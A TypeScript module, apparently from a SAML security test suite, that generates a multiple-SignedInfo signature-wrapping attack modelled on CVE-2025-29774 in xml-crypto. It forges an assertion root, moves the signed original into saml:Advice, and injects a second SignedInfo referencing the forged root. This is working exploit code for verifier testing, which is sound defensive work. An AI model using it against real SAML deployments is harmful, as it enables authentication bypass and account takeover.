/**
 * Multiple SignedInfo (the CVE-2025-29774 shape): the root turns evil; the original, unsigned,
 * moves into saml:Advice; the ds:Signature keeps the original SignedInfo (which SignatureValue
 * covers, pointing at the copy) and gains a second SignedInfo whose Reference points at the evil
 * root with the evil root's digest. A verifier that checks SignatureValue against the first
 * SignedInfo but takes its References from another accepts the evil root.
 * @see GHSA-9p8x-f768-wp2g / CVE-2025-29774 (xml-crypto < 6.0.1, 2.1.6, 3.2.1);
 *   node-saml/xml-crypto test/static/saml_multiple_signed_info_nodes.xml (shape)
 */
import { ALG, NS } from '../../xml/namespaces.ts';
import { firstChild } from '../../xml/parse-xml.ts';
import { envelopedSha256Digest } from './digest.ts';
import { applyEvil, dropSignature, EVIL_ASSERTION_ID, readSigned, write } from './edit.ts';
import type { SamlAttack } from './types.ts';

export const MULTIPLE_SIGNED_INFO: SamlAttack = {
  name: 'multiple-signed-info',
  fixture: 'multiple-signed-info-cve-2025-29774',
  summary:
    'a second ds:SignedInfo references the evil root; the signed original hides in saml:Advice',
  source: 'CVE-2025-29774 (xml-crypto multiple SignedInfo references)',
  apply: ({ signed, evil }) => {
    const s = readSigned(signed);
    const { doc, assertion, signature } = s;
    const copy = dropSignature(assertion.cloneNode(true) as Element);
    applyEvil(assertion, evil);
    assertion.setAttribute('AssertionID', EVIL_ASSERTION_ID);
    const advice = doc.createElementNS(NS.saml11, 'saml:Advice');
    advice.appendChild(copy);
    const conditions = firstChild(assertion, NS.saml11, 'Conditions');
    assertion.insertBefore(advice, conditions ? conditions.nextSibling : assertion.firstChild);

    const p = signature.prefix ? `${signature.prefix}:` : '';
    const el = (name: string, attrs: Record<string, string> = {}) => {
      const e = doc.createElementNS(NS.ds, `${p}${name}`);
      for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v);
      return e;
    };
    const second = el('SignedInfo');
    const reference = second.appendChild(el('Reference', { URI: `#${EVIL_ASSERTION_ID}` }));
    const transforms = reference.appendChild(el('Transforms'));
    transforms.appendChild(el('Transform', { Algorithm: ALG.envelopedSignature }));
    transforms.appendChild(el('Transform', { Algorithm: ALG.excC14n }));
    reference.appendChild(el('DigestMethod', { Algorithm: ALG.sha256 }));
    reference
      .appendChild(el('DigestValue'))
      .appendChild(doc.createTextNode(envelopedSha256Digest(assertion)));
    const first = firstChild(signature, NS.ds, 'SignedInfo')!;
    signature.insertBefore(second, first.nextSibling);
    return write(doc);
  },
};
